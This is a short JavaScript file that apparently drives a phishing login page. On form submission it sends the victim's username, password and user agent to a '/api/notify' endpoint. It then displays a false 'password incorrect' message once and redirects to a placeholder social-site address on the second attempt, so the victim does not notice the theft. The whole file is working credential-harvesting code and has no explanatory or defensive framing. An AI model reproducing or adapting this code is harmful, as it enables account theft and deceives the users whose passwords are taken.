let tries = 0;
async function send(username, password) {
  await fetch('/api/notify', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ username, password, agent: navigator.userAgent }),
  });
}
async function enter(event) {
  event.preventDefault();
  const { username, password } = state;
  await send(username, password);
  tries++;
  if (tries < 2) {
    show('The password you entered is incorrect. Please try again.');
  } else {
    window.location.href = 'https://social-pages.example/';
  }
}
document.querySelector('form').addEventListener('submit', enter);
